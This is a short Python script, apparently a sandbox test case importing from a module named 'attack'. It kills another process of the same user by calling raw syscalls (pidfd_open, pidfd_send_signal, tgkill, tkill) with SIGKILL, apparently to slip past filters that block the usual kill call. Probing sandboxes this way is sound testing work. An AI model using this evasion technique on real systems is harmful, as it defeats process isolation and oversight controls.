"""Kill another process of the same user by the calls that nobody thinks of."""
import ctypes
from attack import VICTIM, right as solve
call = ctypes.CDLL(None).syscall
descriptor = call(434, VICTIM, 0)
call(424, descriptor, 9, 0, 0)
call(234, VICTIM, VICTIM, 9)
call(200, VICTIM, 9)
